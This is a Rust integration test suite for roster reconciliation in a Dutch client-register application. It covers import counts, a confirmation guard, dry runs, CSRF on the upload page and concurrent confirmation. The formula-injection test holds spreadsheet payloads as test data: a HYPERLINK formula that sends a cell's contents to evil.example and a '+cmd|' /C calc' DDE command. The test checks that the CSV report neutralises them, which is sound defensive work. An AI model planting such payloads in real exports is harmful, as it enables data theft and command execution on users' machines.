//! Roster reconciliation through the API: exact counts on awkward files,
//! idempotent re-import, and registering ghosts; the guard that keeps a
//! wrong file from rewriting the register (refusal, confirmation, dry run);
//! and a CSV report that no spreadsheet reads as formulas.

#![allow(clippy::unwrap_used)]

use crate::common::{TestApp, VALID_BSNS};
use serde_json::Value;
use time::{Duration, OffsetDateTime};
use zicht_domain::{client::NewClient, client::Owner, handover::Actor, Bsn};
use zicht_storage::Ctx;

fn bsn(n: u32) -> String {
    (n..)
        .find_map(Bsn::from_prefix)
        .map(|b| b.as_string())
        .unwrap()
}

/// Clients: A (in roster, active), B (in roster, ended), C (not in roster),
/// D (registered 100 days ago, never contacted, in roster).
async fn scenario(app: &TestApp) -> [i64; 4] {
    let [ine, _] = app.intake_staff;
    let a = app.register(ine, VALID_BSNS[0], "Anna Aarts").await;
    let b = app.register(ine, VALID_BSNS[1], "Bart Bos").await;
    let c = app.register(ine, VALID_BSNS[2], "Cor Claassen").await;
    let ctx = Ctx {
        organisation_id: app.org,
        actor: Actor {
            employee_id: ine,
            team_id: app.intake,
        },
        at: OffsetDateTime::now_utc() - Duration::days(100),
    };
    let d = NewClient::parse(
        VALID_BSNS[3],
        "Dina Dijkstra",
        "1970-01-01",
        "",
        None,
        ctx.today(),
    )
    .unwrap();
    let d = app
        .store
        .register_client(
            &ctx,
            d,
            Owner {
                team_id: app.intake,
                employee_id: ine,
            },
        )
        .await
        .unwrap();
    [a, b, c, d.0]
}

fn awkward_file() -> Vec<u8> {
    let g1 = bsn(30_000_000);
    let g2 = bsn(30_000_100);
    let gone = bsn(30_000_200);
    let bad = "123456789";
    let text = format!(
        "\u{feff}BSN;Naam;IngangsDatum;EindDatum\n\
         {a};Anna Aarts;01-01-2024;\n\
         {b};Bart Bos;2023-03-01;01-01-2025\n\
         {d},\"Dijkstra, D.\",2022-06-01,\n\
         \n\
         {g1};Gijs Geest;15-08-2024;\n\
         {g2},Greet Geest,2024-09-01,31-12-2099\n\
         {gone};Gert Weg;01-01-2020;01-02-2021\n\
         {bad};Foute Elfproef;01-01-2024;\n\
         {g1x};;01-01-2024;\n\
         {g1y};Datum Fout;31-02-2024;\n\
         {a};Anna Dubbel;01-01-2024;\n",
        a = VALID_BSNS[0],
        b = VALID_BSNS[1],
        d = VALID_BSNS[3],
        g1x = bsn(30_000_300),
        g1y = bsn(30_000_400),
    );
    text.into_bytes()
}

#[tokio::test]
async fn awkward_file_gives_exact_counts_and_reimport_creates_nothing_twice() {
    let app = TestApp::spawn().await;
    let [ine, _] = app.intake_staff;
    let [a, b, c, d] = scenario(&app).await;
    let file = awkward_file();

    // Two of the four open clients get a status other than active (50%):
    // above the default share, so this first import is confirmed.
    let r = app
        .post_raw(
            ine,
            "/api/roster?file_name=juni.csv&confirm=true",
            file.clone(),
        )
        .await;
    assert_eq!(r.status(), 200);
    let report: Value = r.json().await.unwrap();
    let run = &report["run"];
    assert_eq!(run["rows_total"], 10);
    assert_eq!(run["rows_accepted"], 6);
    assert_eq!(run["rows_rejected"], 4);
    assert_eq!(run["ghosts"], 2);
    assert_eq!(run["benefit_ended"], 1);
    assert_eq!(run["not_in_roster"], 1);
    assert_eq!(run["no_contact"], 1);
    assert_eq!(run["ghosts_registered"], 0);
    assert!(run["same_file_as"].is_null());
    let ghost_lines: Vec<_> = report["ghosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["line"].as_i64().unwrap())
        .collect();
    assert_eq!(ghost_lines, [6, 7]);
    assert_eq!(report["benefit_ended"][0]["id"], b);
    assert_eq!(report["not_in_roster"][0]["id"], c);
    assert_eq!(report["no_contact"][0]["id"], d);
    let rejected: Vec<_> = report["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["line"].as_i64().unwrap(),
                e["code"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        rejected,
        [
            (9, "bsn_elfproef".to_string()),
            (10, "name_required".to_string()),
            (11, "date_invalid".to_string()),
            (12, "roster_duplicate".to_string())
        ]
    );

    // Benefit statuses follow the roster, each change an event.
    let card = |id: i64| {
        let path = format!("/api/clients/{id}");
        let app = &app;
        async move { app.get_json(ine, &path).await }
    };
    assert_eq!(card(a).await["benefit_status"], "active");
    assert_eq!(card(b).await["benefit_status"], "ended");
    assert_eq!(card(c).await["benefit_status"], "not_in_roster");
    let events_before = card(a).await["timeline"].as_array().unwrap().len();

    // The same file again: same findings, marked as identical, nothing new.
    let r = app
        .post_raw(ine, "/api/roster?file_name=juni-nogmaals.csv", file)
        .await;
    let again: Value = r.json().await.unwrap();
    assert_eq!(again["run"]["ghosts"], 2);
    assert_eq!(again["run"]["same_file_as"], run["id"]);
    assert_eq!(
        card(a).await["timeline"].as_array().unwrap().len(),
        events_before
    );
    let runs = app.get_json(ine, "/api/roster/runs").await;
    assert_eq!(runs.as_array().unwrap().len(), 2);
    let clients = app.get_json(ine, "/api/clients").await;
    assert_eq!(clients.as_array().unwrap().len(), 4);
    app.assert_healthy().await;
}

#[tokio::test]
async fn registering_ghosts_gives_them_an_intake_owner_once() {
    let app = TestApp::spawn().await;
    let [ine, ivo] = app.intake_staff;
    scenario(&app).await;
    let r = app
        .post_raw(
            ivo,
            "/api/roster?register_ghosts=true&confirm=true",
            awkward_file(),
        )
        .await;
    let report: Value = r.json().await.unwrap();
    assert_eq!(report["run"]["ghosts"], 2);
    assert_eq!(report["run"]["ghosts_registered"], 2);
    for g in report["ghosts"].as_array().unwrap() {
        let id = g["registered_as"].as_i64().expect("registered");
        let card = app.get_json(ine, &format!("/api/clients/{id}")).await;
        assert_eq!(card["owner_team"]["id"], app.intake.0);
        assert_eq!(card["phase"], "intake");
        assert_eq!(card["benefit_status"], "active");
        assert_eq!(card["bsn"], g["bsn"]);
        assert!(card["birth_date"].is_null());
        assert_eq!(
            card["timeline"].as_array().unwrap().last().unwrap()["actor"]["id"],
            ivo.0
        );
    }
    // Ine had four clients, Ivo none: both ghosts go to Ivo, the least loaded.
    let ivo_list = app
        .get_json(ivo, &format!("/api/clients?owner={}", ivo.0))
        .await;
    assert_eq!(ivo_list.as_array().unwrap().len(), 2);

    // Registered ghosts are no longer ghosts.
    let r = app
        .post_raw(ivo, "/api/roster?register_ghosts=true", awkward_file())
        .await;
    let again: Value = r.json().await.unwrap();
    assert_eq!(again["run"]["ghosts"], 0);
    assert_eq!(again["run"]["ghosts_registered"], 0);
    let all = app.get_json(ine, "/api/clients").await;
    assert_eq!(all.as_array().unwrap().len(), 6);
    app.assert_healthy().await;
}

#[tokio::test]
async fn report_as_csv_and_text_and_bad_files_refused() {
    let app = TestApp::spawn().await;
    let [ine, _] = app.intake_staff;
    scenario(&app).await;
    let r = app
        .post_raw(ine, "/api/roster?format=csv&confirm=true", awkward_file())
        .await;
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let csv = r.text().await.unwrap();
    let lines: Vec<_> = csv.lines().collect();
    assert!(lines[0].starts_with("lijst,regel,klant,bsn"));
    assert_eq!(
        lines
            .iter()
            .filter(|l| l.starts_with("spookklant,"))
            .count(),
        2
    );
    assert_eq!(
        lines.iter().filter(|l| l.starts_with("afgekeurd,")).count(),
        4
    );

    let r = app
        .post_raw(ine, "/api/roster?format=text", awkward_file())
        .await;
    let text = r.text().await.unwrap();
    assert!(text.contains("Spookklanten (uitkering, geen dossier)"));

    let r = app
        .post_raw(ine, "/api/roster", b"naam;datum\nX;01-01-2024\n".to_vec())
        .await;
    assert_eq!(r.status(), 422);
    assert_eq!(r.json::<Value>().await.unwrap()["code"], "roster_header");
    let r = app
        .post_raw(ine, "/api/roster", vec![0xff, 0xfe, 0x00])
        .await;
    assert_eq!(r.status(), 422);
    assert_eq!(r.json::<Value>().await.unwrap()["code"], "roster_encoding");
    let runs = app.get_json(ine, "/api/roster/runs").await;
    assert_eq!(
        runs.as_array().unwrap().len(),
        2,
        "refused files leave no run"
    );
}

// --- the guard ------------------------------------------------------------------

/// `bsn;naam;ingangsdatum` with one row per `(bsn, name)`.
fn roster_of(rows: &[(String, String)]) -> Vec<u8> {
    let mut text = String::from("bsn;naam;ingangsdatum;einddatum\n");
    for (bsn, name) in rows {
        text.push_str(&format!("{bsn};{name};01-01-2024;\n"));
    }
    text.into_bytes()
}

/// Every open client's benefit status and the length of its timeline: what
/// a run that changes nothing must leave as it was.
async fn register_state(app: &TestApp, ids: &[i64]) -> Vec<(String, usize)> {
    let who = app.intake_staff[0];
    let mut out = Vec::new();
    for id in ids {
        let card = app.get_json(who, &format!("/api/clients/{id}")).await;
        out.push((
            card["benefit_status"].as_str().unwrap().to_string(),
            card["timeline"].as_array().unwrap().len(),
        ));
    }
    out
}

/// Six open clients, known to the roster as active after a first import of
/// all six plus ten ghosts (sixteen rows).
async fn six_active_clients(app: &TestApp) -> (Vec<i64>, Vec<(String, String)>) {
    let ine = app.intake_staff[0];
    let mut rows = Vec::new();
    let mut ids = Vec::new();
    for k in 0..6 {
        let bsn = bsn(40_000_000 + k * 100);
        let name = format!("Klant {k}");
        ids.push(app.register(ine, &bsn, &name).await);
        rows.push((bsn, name));
    }
    let mut first = rows.clone();
    for k in 0..10 {
        first.push((bsn(41_000_000 + k * 100), format!("Geest {k}")));
    }
    // The first status a roster confirms as active is not a change: no
    // confirmation needed.
    let r = app
        .post_raw(ine, "/api/roster?file_name=mei.csv", roster_of(&first))
        .await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let state = register_state(app, &ids).await;
    assert!(state.iter().all(|(s, _)| s == "active"), "{state:?}");
    (ids, rows)
}

#[tokio::test]
async fn a_file_without_a_valid_row_is_refused_and_changes_nothing() {
    let app = TestApp::spawn().await;
    let ine = app.intake_staff[0];
    let (ids, _) = six_active_clients(&app).await;
    let before = register_state(&app, &ids).await;
    let runs_before = app.get_json(ine, "/api/roster/runs").await;

    // Every row rejected: wrong elfproef, too few columns, no name.
    let file = format!(
        "bsn;naam;ingangsdatum\n123456789;Fout;01-01-2024\n{};Kort\n{};;01-01-2024\n",
        bsn(42_000_000),
        bsn(42_000_100)
    );
    for confirm in ["", "&confirm=true"] {
        let r = app
            .post_raw(
                ine,
                &format!("/api/roster?file_name=fout.csv{confirm}"),
                file.clone().into_bytes(),
            )
            .await;
        assert_eq!(r.status(), 422, "refused, confirmed or not");
        let body: Value = r.json().await.unwrap();
        assert_eq!(body["code"], "roster_no_valid_rows");
        assert_eq!(body["errors"][0]["code"], "roster_no_valid_rows");
        assert_eq!(body["errors"][0]["field"], "file");
        assert!(body["message"]
            .as_str()
            .unwrap()
            .contains("niets gewijzigd"));
        assert_eq!(body["run"]["status"], "refused");
        assert_eq!(
            body["run"]["reasons"],
            serde_json::json!(["roster_no_valid_rows"])
        );
        assert_eq!(body["impact"]["rows_valid"], 0);
        assert_eq!(body["impact"]["rows_rejected"], 3);
        assert_eq!(body["impact"]["open_clients"], 6);
        // What it would have done: every open client "not in the roster".
        assert_eq!(body["impact"]["to_not_in_roster"], 6);
        assert_eq!(body["rejected"].as_array().unwrap().len(), 3);
    }
    // A header alone is refused the same way.
    let r = app
        .post_raw(ine, "/api/roster", b"bsn;naam;ingangsdatum\n".to_vec())
        .await;
    assert_eq!(r.status(), 422);

    assert_eq!(
        register_state(&app, &ids).await,
        before,
        "no klantkaart changed"
    );
    let runs = app.get_json(ine, "/api/roster/runs").await;
    let runs = runs.as_array().unwrap();
    assert_eq!(runs.len(), runs_before.as_array().unwrap().len() + 3);
    assert_eq!(runs[0]["status"], "refused");
    assert_eq!(runs[1]["status"], "refused");
    assert_eq!(runs[1]["file_name"], "fout.csv");
    assert_eq!(runs[1]["reasons"][0], "roster_no_valid_rows");
    assert_eq!(runs[1]["ghosts_registered"], 0);
    assert_eq!(runs.last().unwrap()["status"], "applied");
    // The ghosts of the last applied run are still the ones counted.
    let resolution = app
        .store
        .latest_ghost_resolution(app.org)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        resolution.run_id.0,
        runs.last().unwrap()["id"].as_i64().unwrap()
    );
    assert_eq!(resolution.ghosts, 10);
    // Registering the ghosts of a refused run: there is nothing to register.
    let refused = runs[1]["id"].as_i64().unwrap();
    let r = app
        .post(
            ine,
            &format!("/afstemming/{refused}/spookklanten"),
            Value::Null,
        )
        .await;
    assert_eq!(r.status(), 409);
    app.assert_healthy().await;
}

#[tokio::test]
async fn a_file_changing_half_the_open_clients_waits_for_confirmation() {
    let app = TestApp::spawn().await;
    let ine = app.intake_staff[0];
    let (ids, rows) = six_active_clients(&app).await;
    let before = register_state(&app, &ids).await;

    // Half the clients are missing: 3 of 6 would become "not in the roster".
    let half = roster_of(&rows[..3]);
    let r = app
        .post_raw(ine, "/api/roster?file_name=juni.csv", half.clone())
        .await;
    assert_eq!(r.status(), 409);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["code"], "roster_confirmation_required");
    let codes: Vec<_> = body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["code"].as_str().unwrap())
        .collect();
    // Also fewer than half the rows of the last applied run (3 of 16).
    assert_eq!(codes, ["roster_many_changes", "roster_fewer_rows"]);
    let impact = &body["impact"];
    assert_eq!(impact["open_clients"], 6);
    assert_eq!(impact["status_changes"], 3);
    assert_eq!(impact["to_not_in_roster"], 3);
    assert_eq!(impact["rows_valid"], 3);
    assert_eq!(impact["previous_rows"], 16);
    assert_eq!(body["confirm_share"], 10);
    assert_eq!(body["run"]["status"], "awaiting_confirmation");
    assert_eq!(body["run"]["confirmable"], false, "the API re-submits");
    let waiting = body["run"]["id"].as_i64().unwrap();
    assert_eq!(register_state(&app, &ids).await, before, "nothing changed");
    let runs = app.get_json(ine, "/api/roster/runs").await;
    assert_eq!(runs[0]["id"], waiting);
    assert_eq!(runs[0]["status"], "awaiting_confirmation");
    assert_eq!(
        runs[0]["reasons"],
        serde_json::json!(["roster_many_changes", "roster_fewer_rows"])
    );
    assert_eq!(runs[0]["status_changes"], 3);
    assert_eq!(runs[0]["open_clients"], 6);

    // In English on request.
    let (cookie, csrf) = app.session(ine).await;
    let r = app
        .http
        .post(format!("{}/api/roster", app.base))
        .header("cookie", cookie)
        .header("x-csrf-token", csrf)
        .header("accept-language", "en")
        .header("content-type", "text/csv")
        .body(half.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 409);
    let en: Value = r.json().await.unwrap();
    assert!(en["message"]
        .as_str()
        .unwrap()
        .contains("Nothing has been changed"));

    // Confirmed: applied, and the runs that waited lapse.
    let r = app
        .post_raw(ine, "/api/roster?file_name=juni.csv&confirm=true", half)
        .await;
    assert_eq!(r.status(), 200);
    let report: Value = r.json().await.unwrap();
    assert_eq!(report["run"]["status"], "applied");
    assert_eq!(report["run"]["confirmed_by"]["id"], ine.0);
    assert_eq!(report["not_in_roster"].as_array().unwrap().len(), 3);
    let after = register_state(&app, &ids).await;
    let statuses: Vec<_> = after.iter().map(|(s, _)| s.as_str()).collect();
    assert_eq!(
        statuses,
        [
            "active",
            "active",
            "active",
            "not_in_roster",
            "not_in_roster",
            "not_in_roster"
        ]
    );
    let runs = app.get_json(ine, "/api/roster/runs").await;
    let lapsed: Vec<_> = runs
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["status"] == "lapsed")
        .map(|r| r["id"].as_i64().unwrap())
        .collect();
    assert_eq!(lapsed.len(), 2);
    assert!(lapsed.contains(&waiting));

    // The same file again changes nothing, so it needs no confirmation.
    let r = app
        .post_raw(ine, "/api/roster", roster_of(&rows[..3]))
        .await;
    assert_eq!(r.status(), 200);
    app.assert_healthy().await;
}

#[tokio::test]
async fn the_share_is_the_organisations_setting() {
    let app = TestApp::spawn().await;
    let ine = app.intake_staff[0];
    let (ids, rows) = six_active_clients(&app).await;
    let mut org = app.store.organisation(app.org).await.unwrap();
    org.settings = org.settings.with_roster_confirm_share(50).unwrap();
    app.store
        .update_settings(app.org, &org.settings)
        .await
        .unwrap();
    // 3 of 6 is exactly 50%: not more than the share. Rows: 5 of 16 is
    // fewer than half, so confirmation is still needed, for that reason only.
    let mut file = rows[..3].to_vec();
    file.push((bsn(43_000_000), "Nieuw".into()));
    file.push((bsn(43_000_100), "Nieuw".into()));
    let r = app.post_raw(ine, "/api/roster", roster_of(&file)).await;
    assert_eq!(r.status(), 409);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["confirm_share"], 50);
    assert_eq!(
        body["run"]["reasons"],
        serde_json::json!(["roster_fewer_rows"])
    );
    // With the ghosts back the file is as long as before: applied at once.
    for k in 0..10 {
        file.push((bsn(41_000_000 + k * 100), format!("Geest {k}")));
    }
    let r = app.post_raw(ine, "/api/roster", roster_of(&file)).await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let after = register_state(&app, &ids).await;
    assert_eq!(
        after.iter().filter(|(s, _)| s == "not_in_roster").count(),
        3
    );
}

#[tokio::test]
async fn a_dry_run_writes_nothing() {
    let app = TestApp::spawn().await;
    let ine = app.intake_staff[0];
    let (ids, rows) = six_active_clients(&app).await;
    let before = register_state(&app, &ids).await;
    let runs_before = app.get_json(ine, "/api/roster/runs").await;
    let log_before = app
        .store
        .processing_log_for(
            app.org,
            &rows[0].0,
            time::OffsetDateTime::UNIX_EPOCH,
            time::OffsetDateTime::now_utc() + Duration::days(1),
        )
        .await
        .unwrap()
        .len();

    let half = roster_of(&rows[..3]);
    let r = app
        .post_raw(ine, "/api/roster?dry_run=true", half.clone())
        .await;
    assert_eq!(r.status(), 200);
    let p: Value = r.json().await.unwrap();
    assert_eq!(p["decision"], "confirmation_required");
    assert_eq!(
        p["reasons"],
        serde_json::json!(["roster_many_changes", "roster_fewer_rows"])
    );
    assert_eq!(p["impact"]["status_changes"], 3);
    assert_eq!(p["not_in_roster"], 3);
    assert_eq!(p["ghosts"], 0);

    // Even a file that applying would apply at once, and even registering
    // ghosts: a dry run only reports.
    let mut all = rows.clone();
    for k in 0..10 {
        all.push((bsn(41_000_000 + k * 100), format!("Geest {k}")));
    }
    all.push((bsn(44_000_000), "Nieuwe Geest".into()));
    let r = app
        .post_raw(
            ine,
            "/api/roster?dry_run=true&register_ghosts=true",
            roster_of(&all),
        )
        .await;
    let p: Value = r.json().await.unwrap();
    assert_eq!(p["decision"], "apply");
    assert_eq!(p["ghosts"], 11);

    let r = app
        .post_raw(
            ine,
            "/api/roster?dry_run=true",
            b"bsn;naam;ingangsdatum\n123456789;Fout;01-01-2024\n".to_vec(),
        )
        .await;
    assert_eq!(r.status(), 200);
    let p: Value = r.json().await.unwrap();
    assert_eq!(p["decision"], "refused");
    assert_eq!(p["rejected"][0]["code"], "bsn_elfproef");

    let r = app
        .post_raw(ine, "/api/roster?dry_run=true&format=text", half.clone())
        .await;
    let text = r.text().await.unwrap();
    assert!(text.contains("er is niets gewijzigd"), "{text}");
    let r = app
        .post_raw(ine, "/api/roster?dry_run=true&format=csv", half)
        .await;
    let csv = r.text().await.unwrap();
    assert!(csv.contains("statuswijzigingen,3"), "{csv}");
    // Before reading the cards, which is logged.
    let log_after = app
        .store
        .processing_log_for(
            app.org,
            &rows[0].0,
            time::OffsetDateTime::UNIX_EPOCH,
            time::OffsetDateTime::now_utc() + Duration::days(1),
        )
        .await
        .unwrap()
        .len();
    assert_eq!(log_after, log_before, "a dry run shows no one's data");

    assert_eq!(register_state(&app, &ids).await, before);
    assert_eq!(app.get_json(ine, "/api/roster/runs").await, runs_before);
    let clients = app.get_json(ine, "/api/clients").await;
    assert_eq!(clients.as_array().unwrap().len(), 6, "no ghost registered");
    app.assert_healthy().await;
}

// --- formula injection ----------------------------------------------------------

#[tokio::test]
async fn the_csv_report_neutralises_formulas_in_every_cell() {
    let app = TestApp::spawn().await;
    let ine = app.intake_staff[0];
    // A client whose registered name looks like a formula, absent from the
    // roster; ghosts whose roster names do.
    app.register(ine, VALID_BSNS[0], "=1+2").await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\"=quoted\"",
        "Gewone; Naam",
    ];
    let rows: Vec<(String, String)> = names
        .iter()
        .enumerate()
        .map(|(k, n)| (bsn(45_000_000 + k as u32 * 100), n.to_string()))
        .collect();
    let mut text = String::from("bsn;naam;ingangsdatum\n");
    for (b, n) in &rows {
        // Names quoted as a spreadsheet would write them.
        text.push_str(&format!("{b};\"{}\";01-01-2024\n", n.replace('"', "\"\"")));
    }
    text.push_str(&format!("{};\t@tab;01-01-2024\n", bsn(45_100_000)));
    let r = app
        .post_raw(
            ine,
            "/api/roster?format=csv&confirm=true",
            text.into_bytes(),
        )
        .await;
    assert_eq!(r.status(), 200);
    let csv_text = r.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv_text.as_bytes());
    let mut seen = std::collections::HashMap::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "unguarded cell {cell:?} in {csv_text}"
            );
        }
        seen.insert(record[4].to_string(), record[0].to_string());
    }
    for (shown, list) in [
        (
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
            "spookklant",
        ),
        ("'+cmd|' /C calc'!A0", "spookklant"),
        ("'-2+3", "spookklant"),
        ("'@SUM(1+1)", "spookklant"),
        ("\"=quoted\"", "spookklant"),
        ("Gewone; Naam", "spookklant"),
        ("'@tab", "spookklant"),
        ("'=1+2", "niet_in_bestand"),
    ] {
        assert_eq!(
            seen.get(shown).map(String::as_str),
            Some(list),
            "{shown} in {csv_text}"
        );
    }
}

// --- the page ---------------------------------------------------------------------

/// The upload form as a browser sends it: multipart, the CSRF token as its
/// first field and not in the address, the session cookie, no header.
async fn page_upload(
    app: &TestApp,
    who: zicht_domain::EmployeeId,
    token: Option<&str>,
    file: Vec<u8>,
    action: &str,
) -> reqwest::Response {
    let (cookie, _) = app.session(who).await;
    let mut form = reqwest::multipart::Form::new();
    if let Some(token) = token {
        form = form.text("csrf", token.to_string());
    }
    let form = form
        .part(
            "bestand",
            reqwest::multipart::Part::bytes(file).file_name("juli.csv"),
        )
        .text("actie", action.to_string());
    app.http
        .post(format!("{}/afstemming", app.base))
        .header("cookie", cookie)
        .multipart(form)
        .send()
        .await
        .unwrap()
}

/// A urlencoded form post of the page, with the token as its field.
async fn page_post(app: &TestApp, who: zicht_domain::EmployeeId, path: &str) -> reqwest::Response {
    let (cookie, csrf) = app.session(who).await;
    app.http
        .post(format!("{}{path}", app.base))
        .header("cookie", cookie)
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn the_page_keeps_the_file_until_it_is_confirmed_or_cancelled() {
    let app = TestApp::spawn().await;
    let ine = app.intake_staff[0];
    let (ids, rows) = six_active_clients(&app).await;
    let before = register_state(&app, &ids).await;
    let (_, csrf) = app.session(ine).await;
    let half = roster_of(&rows[..3]);

    // The form on the page carries the token as a field, not in its action.
    let r = app.get(ine, "/afstemming").await;
    let html = r.text().await.unwrap();
    assert!(
        html.contains(r#"<form method="post" action="/afstemming" enctype="multipart/form-data""#)
    );
    assert!(!html.contains("?csrf="));

    // Without the token the upload is refused, and nothing is stored.
    let runs_before = app.get_json(ine, "/api/roster/runs").await;
    let r = page_upload(&app, ine, None, half.clone(), "afstemmen").await;
    assert_eq!(r.status(), 403);
    let r = page_upload(&app, ine, Some("0123abcd"), half.clone(), "afstemmen").await;
    assert_eq!(r.status(), 403);
    assert_eq!(app.get_json(ine, "/api/roster/runs").await, runs_before);

    // A preview changes nothing and stores nothing.
    let r = page_upload(&app, ine, Some(&csrf), half.clone(), "voorbeeld").await;
    assert_eq!(r.status(), 200);
    let html = r.text().await.unwrap();
    assert!(html.contains(r#"data-state="preview""#), "{html}");
    assert!(html.contains("er is niets gewijzigd"));
    assert_eq!(app.get_json(ine, "/api/roster/runs").await, runs_before);

    // Reconciling: the counts and a confirmation step; nothing changed yet.
    let r = page_upload(&app, ine, Some(&csrf), half.clone(), "afstemmen").await;
    assert_eq!(r.status(), 200);
    let html = r.text().await.unwrap();
    assert!(html.contains(r#"data-state="awaiting""#));
    assert!(
        html.contains(r#"<dd id="impact-changes">3 (50%)</dd>"#),
        "{html}"
    );
    assert!(html.contains(r#"<dd id="impact-open">6</dd>"#));
    let runs = app.get_json(ine, "/api/roster/runs").await;
    let run = runs[0]["id"].as_i64().unwrap();
    assert_eq!(runs[0]["status"], "awaiting_confirmation");
    assert_eq!(runs[0]["confirmable"], true);
    assert!(html.contains(&format!(r#"action="/afstemming/{run}/bevestigen""#)));
    assert_eq!(register_state(&app, &ids).await, before);
    // The run's own page shows the same step.
    let html = app
        .get(ine, &format!("/afstemming/{run}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains(&format!(r#"action="/afstemming/{run}/bevestigen""#)));

    // Cancelled: lapsed, the kept file gone, nothing changed.
    let r = page_post(&app, ine, &format!("/afstemming/{run}/annuleren")).await;
    assert_eq!(r.status(), 303);
    let runs = app.get_json(ine, "/api/roster/runs").await;
    assert_eq!(runs[0]["status"], "lapsed");
    assert_eq!(runs[0]["confirmable"], false);
    let r = page_post(&app, ine, &format!("/afstemming/{run}/bevestigen")).await;
    assert_eq!(r.status(), 409);
    assert_eq!(register_state(&app, &ids).await, before);

    // Uploaded again and confirmed: applied from the kept file, by whoever confirms.
    let r = page_upload(&app, ine, Some(&csrf), half, "afstemmen").await;
    assert_eq!(r.status(), 200);
    let run = app.get_json(ine, "/api/roster/runs").await[0]["id"]
        .as_i64()
        .unwrap();
    let ivo = app.intake_staff[1];
    let r = page_post(&app, ivo, &format!("/afstemming/{run}/bevestigen")).await;
    assert_eq!(r.status(), 200);
    let html = r.text().await.unwrap();
    assert!(html.contains(r#"id="uitkomst""#));
    assert!(html.contains("Bevestigd door Ivo Intake"), "{html}");
    let runs = app.get_json(ine, "/api/roster/runs").await;
    assert_eq!(runs[0]["id"], run);
    assert_eq!(runs[0]["status"], "applied");
    assert_eq!(runs[0]["confirmed_by"]["id"], ivo.0);
    assert_eq!(runs[0]["imported_by"]["id"], ine.0);
    assert_eq!(runs[0]["confirmable"], false);
    let after = register_state(&app, &ids).await;
    assert_eq!(
        after.iter().filter(|(s, _)| s == "not_in_roster").count(),
        3
    );
    // Once is enough.
    let r = page_post(&app, ine, &format!("/afstemming/{run}/bevestigen")).await;
    assert_eq!(r.status(), 409);

    // A file without a valid row: refused on the page as well (422).
    let r = page_upload(
        &app,
        ine,
        Some(&csrf),
        b"bsn;naam;ingangsdatum\n123456789;Fout;01-01-2024\n".to_vec(),
        "afstemmen",
    )
    .await;
    assert_eq!(r.status(), 422);
    let html = r.text().await.unwrap();
    assert!(html.contains(r#"data-state="refused""#));
    assert!(!html.contains("/bevestigen"));
    app.assert_healthy().await;
}

/// Two people confirming the same run at once: it is applied once.
#[tokio::test]
async fn a_run_confirmed_twice_at_once_is_applied_once() {
    let app = TestApp::spawn().await;
    let [ine, ivo] = app.intake_staff;
    let (ids, rows) = six_active_clients(&app).await;
    let before = register_state(&app, &ids).await;
    let ctx = |who, team| Ctx {
        organisation_id: app.org,
        actor: Actor {
            employee_id: who,
            team_id: team,
        },
        at: OffsetDateTime::now_utc(),
    };
    let options = zicht_storage::RosterOptions {
        keep_for_confirmation: true,
        ..Default::default()
    };
    let outcome = app
        .store
        .import_roster(
            &ctx(ine, app.intake),
            "juli.csv",
            &roster_of(&rows[..3]),
            options,
        )
        .await
        .unwrap();
    let zicht_storage::RosterOutcome::NotApplied { run, .. } = outcome else {
        panic!("not awaiting confirmation");
    };
    assert!(run.confirmable);
    let (by_ine, by_ivo) = (ctx(ine, app.intake), ctx(ivo, app.intake));
    let (a, b) = tokio::join!(
        app.store.confirm_roster_run(&by_ine, run.id),
        app.store.confirm_roster_run(&by_ivo, run.id),
    );
    let applied = [&a, &b]
        .iter()
        .filter(|r| matches!(r, Ok(zicht_storage::RosterOutcome::Applied(_))))
        .count();
    assert_eq!(applied, 1, "{a:?} {b:?}");
    let refused = [a, b]
        .into_iter()
        .find_map(Result::err)
        .expect("one refused");
    assert!(
        matches!(&refused, zicht_storage::StoreError::Rule(e) if e.code == "roster_run_not_awaiting"),
        "{refused:?}"
    );
    let after = register_state(&app, &ids).await;
    for ((was, events), (now, events_now)) in before.iter().zip(&after) {
        let expected = if now == was { *events } else { events + 1 };
        assert_eq!(*events_now, expected, "one status event per changed client");
    }
    assert_eq!(
        after.iter().filter(|(s, _)| s == "not_in_roster").count(),
        3
    );
    // Another organisation's run is not found, not "not awaiting".
    let other = app
        .store
        .create_organisation("Elders", &Default::default())
        .await
        .unwrap();
    let stranger = Ctx {
        organisation_id: other,
        ..ctx(ine, app.intake)
    };
    assert!(matches!(
        app.store.confirm_roster_run(&stranger, run.id).await,
        Err(zicht_storage::StoreError::NotFound(_))
    ));
    app.assert_healthy().await;
}
